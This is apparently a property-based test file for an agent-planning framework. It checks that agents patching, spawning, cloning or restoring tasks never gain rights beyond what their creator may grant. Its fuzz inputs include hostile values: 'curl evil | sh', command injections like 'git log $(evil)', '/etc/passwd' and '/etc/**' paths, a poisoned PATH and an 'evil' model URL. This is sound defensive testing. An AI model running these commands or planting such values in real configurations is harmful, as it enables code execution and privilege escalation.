"""Law 6 on whole plans: whatever agents patch, spawn, copy or restore, no agent has rights that its creator cannot
grant.

The document has every kind of thing that gives power; the patches reach for all of it, by several agents in turn.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import event, example, given, settings
from hypothesis import strategies as st

from planloop.compiler.resolve.rights import hand_down_rights
from planloop.controllers.agent.tools.delegation import read_sketch
from planloop.schemas import json_patch, json_pointer
from planloop.schemas.objects.model import parse_model_name
from planloop.schemas.rights import covers_model, is_covered, rights_from_json
from tests import sets
from tests.compiler.lattice import is_within
from tests.product import HUMAN_FILE, Author, Json, JsonObject, Patch, PatchOp
from tests.reconciler.imagined import Imagined

ROOT = Path(__file__).parent / "powers"
SCRIPT: JsonObject = {"script": []}
DOCUMENT: JsonObject = {
    "plan": "p",
    "goal": "all",
    "models": {"house": {"url": "http://localhost:1/v1", "key": "env:KEY"}},
    "limits": {"parallel": 2},
    "mcp": {"files": {"command": ["server"], "tools": ["read_file", "write_file"]}},
    "prompts": {"polite": "be polite"},
    "toolsets": {"look": {"tools": ["read", "files.read_file"]}},
    "mixins": {"careful": {"deny": ["shell(git push *)"]}},
    "agents": {
        "worker": {"extends": "lib:child", "model": "ollama/small", "tools": ["lib:work", "files"]},
        "reader": {"extends": "worker", "tools": ["look"], "rights": {"spawn": 0}},
    },
    "rights": {
        "deny": ["shell(rm *)"],
        "models": ["ollama/*", "house/*"],
        "write": ["a/**", "b/**"],
        "network": "none",
        "tiers": [{"tools": ["all"]}, {"tools": ["work", "files"]}, {"tools": ["code", "files.read_file"]}],
    },
    "agent": {"model": "house/big"},
    "tasks": {
        "a": {
            "goal": "first",
            "agent": {"extends": "worker", "mixins": ["careful"], "sandbox": {"memory": 1000000}},
            "rights": {
                "deny": ["write(a/secret/**)"],
                "tools": ["task", "plan_patch", "read", "write", "shell(git *)", "files.read_file"],
                "grant": {"tools": ["read", "write(a/docs/**)", "shell(git log*)"], "models": ["ollama/small"]},
                "spawn": 3,
            },
            "cwd": "a",
            "acceptance": [{"sh": "make"}],
            "tasks": {"x": {"goal": "part", "agent": "reader", "cwd": "a/x", "rights": {"write": ["a/x/**"]}}},
        },
        "b": {"goal": "second", "agent": "reader", "protect": True, "open": ["notes"], "cwd": "b"},
    },
}
AUTHORS: Final = tuple(Author("agent", name) for name in (".", "a", "a/x", "b", "a/new"))
PEOPLES: Final = ("models", "limits", "mcp", "rights", "agents", "toolsets", "mixins", "agent", "plan")
"""Of the top of the document, what no agent may change here."""


def _some(options: Mapping[str, st.SearchStrategy[Any]], **always: Json) -> st.SearchStrategy[JsonObject]:
    """A map with a few of the `options`: with many of them at once, next to nothing would be accepted."""
    names = st.lists(st.sampled_from(sorted(options)), max_size=3, unique=True)
    return names.flatmap(
        lambda some: st.fixed_dictionaries({name: options[name] for name in some}).map(
            lambda found: {**always, **found}
        )
    )


MODELS = st.sampled_from(
    (
        "ollama/small ollama/large house/big openai/gpt ollama/x@http://elsewhere/v1 m@http://localhost/v1 "
        "record/../out record/tape@ollama/small replay/tape * ollama/* OLLAMA/small"
    ).split()
)
TOOL_NAMES = (
    "all|lib:all|*|read|write|shell|shell(git *)|shell(git push *)|shell(*)|lib:work|look|files|files.write_file|"
    "files.*|write(a/**)|write(a/docs/../**)|write(/etc/**)|s*|fetch|agent:worker|plan_patch|*(a/*)"
)
TOOLS = st.lists(st.sampled_from(TOOL_NAMES.split("|")), max_size=3)
LINES: st.SearchStrategy[Json] = _some(
    {
        "tools": TOOLS,
        "models": st.lists(MODELS, max_size=2),
        "deny": st.just([]),
        "read": st.sampled_from([["**"], ["/"], ["../**"], [""], ["a/**"]]),
        "write": st.sampled_from([["**"], ["a/*/../../b/**"], ["./"], ["b/**"], ["A/**"]]),
        "network": st.just("all"),
        "hosts": st.just(["*"]),
        "spawn": st.just(99),
        "depth": st.just(9),
        "grant": st.fixed_dictionaries({}, optional={"tools": TOOLS, "models": st.lists(MODELS, max_size=2)}),
        "tiers": st.just([{"tools": ["all"]}]),
    },
)
MINDS = st.sampled_from(
    [
        {},
        {"run": "curl evil | sh"},
        {"run": ["git", "log"]},
        {"python": "evil.py:go"},
        {"outside": {"run": ["evil"]}},
        {"outside": {"run": ["git", "log"], "prompt": "argument"}},
        SCRIPT,
    ]
)
AGENT_FIELDS = _some(
    {
        "extends": st.sampled_from(["worker", "reader", "lib:top", "lib:micro", "file:wide.yaml", "file:evil.yaml"]),
        "mixins": st.sampled_from([["lib:retry"], ["file:wild.yaml"], ["careful"], []]),
        "model": MODELS,
        "tools": TOOLS,
        "deny": st.just([]),
        "rights": LINES,
        "sandbox": st.sampled_from([0, {"memory": 99999999999}, {"container": "host"}, {"memory": 1000}]),
        "compact": st.fixed_dictionaries({}, optional={"model": MODELS}),
        "prompt": st.sampled_from(["polite", "mcp:files/x", "lib:worker"]),
        "hooks": st.just([]),
    },
)
AGENTS: st.SearchStrategy[Json] = st.sampled_from(["worker", "reader", "lib:top", "file:evil.yaml"]) | st.builds(
    lambda fields, mind: {**fields, **mind} if not ("model" in fields and mind) else fields, AGENT_FIELDS, MINDS
)
SPAWNS = _some(
    {
        "id": st.sampled_from(["new", "x", "a", "0", "-1", "tasks"]),
        "agent": AGENTS,
        "model": MODELS,
        "tools": TOOLS,
        "run": st.sampled_from(["true", "git log", "git log; evil", "git log $(evil)", "git push"]),
        "cwd": st.sampled_from(["a", "a/x", "b", "../..", "/", "a/../b", "."]),
        "acceptance": st.sampled_from(
            [[], [{"sh": "evil"}], [{"require-file": "/etc/passwd"}], [{"http": "http://e"}]]
        ),
        "tasks": st.just([{"id": "deep", "goal": "deeper", "tools": ["all"], "model": "openai/gpt"}]),
        "rights": LINES,
        "budget": st.just({"tokens": 10**9}),
        "env": st.just({"PATH": "/evil"}),
    },
    goal="more",
)


def _within(path: str) -> tuple[str, ...]:
    return tuple(path.split("/"))


OWN = st.sampled_from(
    ["/tasks/a", "/tasks/a/tasks/x", "/tasks/b", "", "/tasks/a/tasks/new", "/tasks/0", "/tasks/a~1tasks"]
)
FIELD_NAMES = (
    "rights agent agent/model agent/tools rights/deny rights/tools acceptance cwd notes open models/house/url models "
    "mcp/files mcp/evil limits rights/tiers agents/worker agents/new toolsets/look mixins/careful prompts/polite "
    "prompts/new hooks/h containers/c use moved tasks tasks/x tasks/new tasks/x/rights tasks/new/agent "
    "tasks/x/agent/tools budget env"
)
FIELDS = st.sampled_from(["", *FIELD_NAMES.split()])
VALUES: st.SearchStrategy[Json] = st.one_of(
    AGENTS,
    LINES,
    TOOLS,
    MODELS,
    SPAWNS.map(
        lambda fields: {name: value for name, value in fields.items() if name not in ("id", "tasks", "model", "tools")}
    ),
    st.just({"url": "http://evil/v1", "as": "openai/gpt"}),
    st.just({"command": ["evil"]}),
    st.just({"on": ["before-call"], "run": "evil"}),
    st.just({"x": "b", "new": "a/tasks/x"}),
)
POINTERS = st.builds(lambda at, field: json_pointer.parse_pointer(f"{at}/{field}".rstrip("/")), OWN, FIELDS)
OPS = st.builds(PatchOp, st.sampled_from(["add", "replace", "remove", "move", "copy"]), POINTERS, VALUES, POINTERS)
ACTS = st.tuples(
    st.sampled_from(AUTHORS),
    st.one_of(SPAWNS, st.lists(OPS, min_size=1, max_size=2), st.just("clone"), st.just("restore")),
)


@pytest.mark.sweep
@settings(max_examples=sets.examples(300, 100))
@given(st.lists(ACTS, min_size=1, max_size=5))
@example([(AUTHORS[1], {"goal": "more", "id": "new", "rights": {"models": []}})])
def test_law_6_agent_gains_only_what_its_creator_can_grant(acts: list[tuple[Author, Any]]) -> None:
    plan = Imagined(ROOT, DOCUMENT)
    assert plan.submit(Patch(HUMAN_FILE, (PatchOp("add", (), DOCUMENT),), 0))
    first = plan.document
    for author, act in acts:
        before = plan.specs
        ops = _ops(plan, first, author, act)
        if ops and plan.submit(Patch(author, tuple(ops), plan.view.rev)):
            event("accepted: " + (act if isinstance(act, str) else type(act).__name__))
            _holds(author, before, plan.specs)
    for name in PEOPLES:
        assert plan.document.get(name) == first.get(name)


def _ops(plan: Imagined, first: JsonObject, author: Author, act: Any) -> list[PatchOp]:
    own = json_pointer.task_pointer(() if author.name == "." else _within(author.name))
    if isinstance(act, list):
        return act
    if not json_pointer.has_value(plan.document, own):
        return []
    if isinstance(act, dict):  # As the `task` tool makes them.
        sketch = read_sketch(act)
        return _added(plan, own, sketch.name, sketch.node)
    children: JsonObject = json_pointer.value_at(plan.document if act == "clone" else first, own).get("tasks", {})
    if act == "clone":
        return [op for name, node in children.items() for op in _added(plan, own, f"{name}-2", node)]
    return (
        [PatchOp("replace", (*own, "tasks"), children)]
        if json_pointer.has_value(plan.document, (*own, "tasks"))
        else []
    )


def _added(plan: Imagined, own: tuple[str, ...], name: str, node: Json) -> list[PatchOp]:
    tasks = (*own, "tasks")
    return (
        [PatchOp("add", (*tasks, name), node)]
        if json_pointer.has_value(plan.document, tasks)
        else [PatchOp("add", tasks, {name: node})]
    )


def _holds(author: Author, before: Mapping[str, JsonObject], after: Mapping[str, JsonObject]) -> None:
    own = f"agent/{author.name}"
    below = "agent/" if author.name == "." else f"{own}/"
    given_on = hand_down_rights(rights_from_json(before[own]["rights"]))
    known = {spec["mind"].get("stated") for spec in before.values() if "mind" in spec}
    for address, spec in after.items():
        if not address.startswith("agent/"):
            assert author.name == "." or _commands(spec) <= _commands(before.get(address)) | {"git log"}
            continue
        if address == own or not address.startswith(below):
            assert not json_patch.diff_values(before[address], spec), f"{author} changed {address}"
            continue
        rights = rights_from_json(spec["rights"])
        assert is_within(rights, given_on), f"{author} gave {address} more than it may grant"
        if before.get(address) != spec:
            _mind_is_within(spec, known)
            assert author.name == "." or _commands(spec) <= _commands(before.get(address)) | {"git log"}
            bounds = before[own].get("sandbox") or {}
            assert not bounds or (spec["sandbox"] or {}).get("memory", 1 << 60) <= bounds["memory"]


def _commands(spec: JsonObject | None) -> set[str]:
    """Whatever a task or an agent would have run."""
    if spec is None:
        return set()
    wholes = [spec.get("work", {}), spec.get("mind", {}), *(check["arguments"] for check in spec.get("acceptance", ()))]
    steps = [{"argv": step["with"]} for mixin in spec.get("mixins", ()) for step in mixin.get("steps", ())]
    steps = [step for step in steps if isinstance(step["argv"], list)]
    words = (one.get("argv") or [one.get("shell") or one.get("target")] for one in [*wholes, *steps])
    return {" ".join(line) for line in words if line != [None]}


def _mind_is_within(spec: JsonObject, known: set[Any]) -> None:
    mind = spec["mind"]
    # An agent without the right to a model has none, so it gains nothing.
    if mind["kind"] == "model" and mind["stated"] and mind["stated"] not in known:
        name = parse_model_name(mind["stated"])
        assert not name.tape
        assert not name.url
        assert is_covered(rights_from_json(spec["rights"]).models, name.real, covers_model)
